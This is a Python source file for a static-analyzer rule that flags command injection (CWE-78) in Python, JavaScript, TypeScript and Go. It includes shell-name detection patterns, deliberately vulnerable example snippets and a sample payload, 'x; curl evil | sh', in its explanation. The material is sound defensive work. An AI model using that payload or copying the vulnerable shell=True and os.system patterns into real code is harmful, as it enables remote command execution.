"""Text that reaches a shell with parts that the program did not write."""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import dataclass

from checks.report import Evidence, Severity
from checks.rules import Defect, Example, Rule, Site
from checks.syntax import model as m
from checks.syntax.flow import Flow, Value
from checks.views import FileView

_PYTHON_SHELL = re.compile(
    r"^(?:os\.(?:system|popen|popen[234])|subprocess\.(?:getoutput|getstatusoutput)|asyncio\.(?:subprocess\.)?create_subprocess_shell)$"
)
_PYTHON_START = re.compile(
    r"^subprocess\.(?:run|call|check_call|check_output|Popen)$|^asyncio\.(?:subprocess\.)?create_subprocess_exec$|^os\.(?:exec\w+|spawn\w+|posix_spawnp?)$"
)
_PYTHON_REMOTE = re.compile(
    r"(?:paramiko\.(?:client\.)?SSHClient\(\)|(?:^|\.)ssh(?:_client)?)\.exec_command$"
)
_NODE_SHELL = re.compile(
    r"^child_process\.(?:exec|execSync)$|^(?:shelljs|shell)\.exec$|^execa\.(?:command|commandSync|execaCommand|execaCommandSync)$"
)
_NODE_START = re.compile(
    r"^child_process\.(?:spawn|spawnSync|execFile|execFileSync|fork)$|^(?:execa|cross-spawn)(?:\.\w+)?$"
)
_GO_START = re.compile(r"^os/exec\.(?:Command|CommandContext)$|^syscall\.Exec$")
_SHELLS = re.compile(r"^(?:.*/)?(?:sh|bash|zsh|dash|ksh|ash|cmd|cmd\.exe|powershell(?:\.exe)?|pwsh)$")
_QUOTES = (
    "quote",
    "escapeshellarg",
    "shellescape",
    "shell-quote",
    "join",
    "escape",
    "shellQuote",
    "Quote",
    "list2cmdline",
)


@dataclass(frozen=True, slots=True)
class Start:
    """One process start: the text a shell reads (None when there is no shell) and the program that is named."""

    call: m.Call
    shell_text: m.Expr | None
    program: m.Expr | None


def check(view: FileView) -> Iterator[Site]:
    """Every process start is a site."""
    if view.module is None:
        return
    for call in view.flow.calls():
        start = _start(view.flow, call)
        if start is not None:
            yield view.site(m.statement_of(call), _defect(view, start))


def _start(flow: Flow, call: m.Call) -> Start | None:
    name = _callee(flow, call)
    language = flow.module.language
    if language == "python":
        return _python_start(flow, call, name)
    if language == "go":
        if not _GO_START.match(name):
            return None
        offset = 1 if name.endswith("CommandContext") else 0
        args = [a.value for a in call.args if not a.spread]
        return _exec_start(flow, call, args[offset:])
    if _NODE_SHELL.match(name):
        return Start(call, call.positional(0), None)
    if _NODE_START.match(name):
        options = [flow.definition(a.value) for a in call.args]
        shell = any(
            isinstance(o, m.Mapping) and flow.constant(o.get("shell")) not in (..., False, None)
            for o in options
        )
        first = call.positional(0)
        if shell:
            return Start(call, first, None)
        second = call.positional(1)
        listed = flow.definition(second) if second is not None else None
        items = list(listed.items) if isinstance(listed, m.Sequence) else []
        return _exec_start(flow, call, [first, *items] if first is not None else [])
    return None


def _callee(flow: Flow, call: m.Call) -> str:
    name = flow.resolve(call.callee)
    if isinstance(call.callee, m.Name):  # const run = promisify(exec)
        made = flow.definition(call.callee)
        if isinstance(made, m.Call) and m.dotted(made.callee).rpartition(".")[2] == "promisify":
            inner = made.positional(0)
            return flow.resolve(inner) if inner is not None else name
    return name


def _python_start(flow: Flow, call: m.Call, name: str) -> Start | None:
    first = call.positional(0) or call.keyword("args") or call.keyword("cmd") or call.keyword("command")
    if _PYTHON_SHELL.match(name) or _PYTHON_REMOTE.search(name):
        return Start(call, first, None)
    if not _PYTHON_START.match(name):
        return None
    if flow.constant(call.keyword("shell")) is True:
        return Start(call, first, None)
    if name.endswith("create_subprocess_exec"):
        return _exec_start(flow, call, [a.value for a in call.args if a.name is None and not a.spread])
    listed = flow.definition(first) if first is not None else None
    if isinstance(listed, m.Sequence):
        return _exec_start(flow, call, list(listed.items))
    return Start(call, None, first)


def _exec_start(flow: Flow, call: m.Call, words: list[m.Expr]) -> Start:
    """A list of words: with a shell as its program and ``-c``, the next word is shell text after all."""
    if len(words) >= 3 and _SHELLS.match(str(flow.constant(words[0]))):
        flag = str(flow.constant(words[1]))
        if flag.lstrip("-/").lower().endswith("c") or flag.lower() == "-command":
            return Start(call, words[2], None)
    return Start(call, None, words[0] if words else None)


def _defect(view: FileView, start: Start) -> Defect | None:
    written = m.dotted(start.call.callee) or "this call"
    if start.shell_text is not None:
        text = _shell_text(view.flow, start.shell_text)
        if not text.dynamic or _quoted(text):
            return None
        came = f" It carries {text.taint.what}." if text.taint is not None else ""
        return Defect(
            f"`{written}` runs a shell on text with a part that is not constant.{came}",
            fix=_fix(view.language),
            evidence=_evidence(view, start.call, text),
        )
    if start.program is None:
        return None
    program = view.flow.value(start.program)
    if program.taint is None or program.taint.grade != "request":
        return None
    if isinstance(start.program, m.Sequence):
        return None
    return Defect(
        f"{program.taint.what[:1].upper() + program.taint.what[1:]} chooses the program that `{written}` starts.",
        fix="Choose the program from a fixed list by the requested name.",
        evidence=_evidence(view, start.call, program),
        key="program",
    )


def _shell_text(flow: Flow, expr: m.Expr) -> Value:
    found = flow.definition(expr)
    if isinstance(found, m.Sequence) and found.items:  # shell=True with a list: the first item is the command
        return flow.value(found.items[0])
    return flow.value(expr)


def _quoted(value: Value) -> bool:
    return any(name.rpartition(".")[2] in _QUOTES for name in value.through)


def _fix(language: str) -> str:
    if language == "python":
        return 'Pass a list without a shell: `subprocess.run(["tool", value], check=True)`; where a shell must be, `shlex.quote(value)`.'
    if language == "go":
        return 'Call the program itself: `exec.CommandContext(ctx, "tool", value)`.'
    return "Call the program itself: `execFile('tool', [value])`, without `shell: true`."


def _evidence(view: FileView, call: m.Call, value: Value) -> tuple[Evidence, ...]:
    statement = m.statement_of(call)
    return tuple(
        Evidence(view.path, node.line, "the text is put together here")
        for node in value.trail
        if not statement.line <= node.line <= statement.end_line
    )[-3:]


RULE = Rule(
    id="security/command-injection",
    severity=Severity.ERROR,
    languages=("python", "javascript", "typescript", "go"),
    title="Shell command built from values",
    what="Text that is not constant and reaches a shell (`shell=True`, `os.system`, `exec`, `sh -c`), or a request that chooses the program to start.",
    why="A value such as `x; curl evil | sh` becomes a second command that runs with the rights of this service.",
    fix="Start the program with a list of arguments and no shell.",
    site="every process start",
    cwe="CWE-78",
    references=(
        "https://cwe.mitre.org/data/definitions/78.html",
        "https://docs.python.org/3/library/subprocess.html#security-considerations",
        "https://nodejs.org/api/child_process.html#child_processexeccommand-options-callback",
    ),
    bad=(
        Example(
            {
                "media/convert.py": """\
import os
import subprocess

from flask import Blueprint, request

bp = Blueprint("media", __name__)


def thumbnail(path: str, width: int) -> None:
    subprocess.run(f"convert {path} -resize {width} {path}.thumb.png", shell=True, check=True)  # <-- here


def archive(folder, target):
    command = "tar czf " + target + " " + folder
    os.system(command)  # <-- here


@bp.post("/tools")
def run_tool():
    tool = request.json["tool"]
    subprocess.run([tool, "--version"], check=True)  # <-- here
    subprocess.check_output(["bash", "-c", "ls %s" % request.args["dir"]])  # <-- here
    return "", 204
"""
            },
            sites=4,
        ),
        Example(
            {
                "src/convert.ts": """\
import { exec, spawn } from 'node:child_process';
import { promisify } from 'node:util';

const run = promisify(exec);

export async function thumbnail(path: string, width: number): Promise<void> {
  await run(`convert ${path} -resize ${width} ${path}.thumb.png`);  // <-- here
}

export function archive(folder: string) {
  return spawn('tar czf out.tgz ' + folder, { shell: true });  // <-- here
}
"""
            },
            sites=2,
        ),
    ),
    good=(
        Example(
            {
                "media/convert.py": """\
import shlex
import subprocess

CONVERT = "convert -version"


def thumbnail(path: str, width: int) -> None:
    subprocess.run(["convert", path, "-resize", str(width), f"{path}.thumb.png"], check=True)
    subprocess.run(CONVERT, shell=True, check=True)
    subprocess.run(f"nice -n {width} ls {shlex.quote(path)}", shell=True, check=True)


def migrate(cmd: list[str]) -> None:
    subprocess.check_call(cmd)
"""
            },
            sites=4,
        ),
        Example(
            {
                "src/convert.ts": """\
import { execFile, exec } from 'node:child_process';

export function thumbnail(path: string, width: number): void {
  execFile('convert', [path, '-resize', String(width), `${path}.thumb.png`]);
  exec('convert -version');
}
"""
            },
            sites=2,
        ),
    ),
)
